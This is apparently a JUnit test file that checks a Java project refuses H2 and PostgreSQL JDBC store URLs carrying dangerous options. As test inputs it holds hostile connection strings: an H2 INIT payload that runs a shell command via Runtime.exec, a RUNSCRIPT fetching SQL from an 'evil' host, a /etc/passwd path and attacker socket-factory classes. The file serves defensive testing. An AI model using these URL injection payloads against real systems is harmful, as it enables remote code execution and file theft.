package org.wfe.drp.impl;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.wfe.api.drp.DrpException;

/** Store URLs that would run code or load classes are refused, whatever sent them; plain stores pass. */
class StoreUrlTest {

    static DrpException refusedH2(String url) {
        return assertThrows(DrpException.class, () -> StoreConfig.of(UnitsTest.config(Map.of("url", url)), Path.of(".")), url);
    }

    static DrpException refusedPg(String url) {
        return assertThrows(DrpException.class,
                () -> StoreConfig.of(UnitsTest.config(Map.of("store", "postgresql", "url", url)), Path.of(".")), url);
    }

    @Test
    void plainStoresPass() {
        for (String ok : new String[] {"jdbc:h2:file:/srv/wfe/var/db/wfe", "jdbc:h2:file:./var/db/wfe;WRITE_DELAY=0",
                "jdbc:h2:file:~/wfe;cache_size=65536;LOCK_TIMEOUT=5000;MAX_COMPACT_TIME=200"}) {
            assertDoesNotThrow(() -> StoreConfig.of(UnitsTest.config(Map.of("url", ok)), Path.of(".")), ok);
        }
        for (String ok : new String[] {"jdbc:postgresql://db.example:5432/wfe", "jdbc:postgresql://127.0.0.1:5432/postgres",
                "jdbc:postgresql://a:5432,b:5433/wfe?targetServerType=primary&sslmode=verify-full&ApplicationName=wfe",
                "jdbc:postgresql://[::1]:5432/wfe?user=wfe&password=x%26y&reWriteBatchedInserts=false", "jdbc:postgresql:wfe"}) {
            assertDoesNotThrow(() -> StoreConfig.of(UnitsTest.config(Map.of("store", "postgresql", "url", ok)), Path.of(".")), ok);
        }
    }

    @Test
    void h2OptionsThatRunCodeOrWriteFilesAreRefused() {
        String init = "jdbc:h2:file:/tmp/x;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { Runtime.getRuntime().exec(c); return c; }'\\;CALL EXEC('touch /tmp/pwned')";
        DrpException e = refusedH2(init);
        assertTrue(e.getMessage().startsWith("url: option 'INIT' is not allowed (allowed: CACHE_SIZE, LOCK_TIMEOUT, MAX_COMPACT_TIME, WRITE_DELAY)"),
                e.getMessage());
        assertFalse(e.getMessage().contains("touch"), "the value is not repeated");
        for (String bad : new String[] {"jdbc:h2:file:/tmp/x;init=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE", "jdbc:h2:file:/tmp/x; INIT=x", "jdbc:h2:file:/tmp/x;;INIT=x",
                "jdbc:h2:file:/tmp/x;IGNORE_UNKNOWN_SETTINGS=TRUE;FOO=1", "jdbc:h2:file:/tmp/x;WRITE_DELAY=0;ACCESS_MODE_DATA=r"}) {
            assertTrue(refusedH2(bad).getMessage().contains("is not allowed"), bad);
        }
        assertEquals("url: H2 option WRITE_DELAY takes a whole number", refusedH2("jdbc:h2:file:/tmp/x;WRITE_DELAY=0\\;INIT=x").getMessage());
    }

    @Test
    void onlyAnH2FileIsAStore() {
        for (String bad : new String[] {"jdbc:h2:mem:x", "jdbc:h2:tcp://evil/x", "jdbc:h2:/tmp/x", "jdbc:h2:file:zip:/tmp/x.zip!/x",
                "jdbc:h2:file:", "jdbc:postgresql://db/wfe", "jdbc:derby:x", "file:/etc/passwd"}) {
            assertTrue(refusedH2(bad).getMessage().startsWith("url: "), bad);
        }
        assertEquals("url: store=h2 takes a jdbc:h2:file:<path> url, got 'jdbc:h2:mem:...'", refusedH2("jdbc:h2:mem:x;INIT=y").getMessage());
    }

    @Test
    void postgresqlOptionsThatLoadClassesOrWriteFilesAreRefused() {
        for (String option : new String[] {"socketFactory=com.evil.F", "socketFactoryArg=x", "sslfactory=org.x.F", "sslhostnameverifier=x.V",
                "sslpasswordcallback=x.C", "loggerFile=/srv/wfe/deploy/x.jar", "loggerLevel=TRACE", "authenticationPluginClassName=x",
                "options=-c%20log_statement=all", "service=x", "socket%46actory=x", "SocketFactory=x", "unknownOption=1"}) {
            DrpException e = refusedPg("jdbc:postgresql://db:5432/wfe?ssl=true&" + option);
            assertTrue(e.getMessage().startsWith("url: option '"), option + ": " + e.getMessage());
            assertTrue(e.getMessage().contains("is not allowed"), e.getMessage());
        }
        for (String bad : new String[] {"jdbc:postgresql://db/wfe#x", "jdbc:postgresql://db/w%66e", "jdbc:postgresql://user:pw@db/wfe",
                "jdbc:h2:file:/tmp/x"}) {
            assertTrue(refusedPg(bad).getMessage().startsWith("url: "), bad);
        }
    }
}
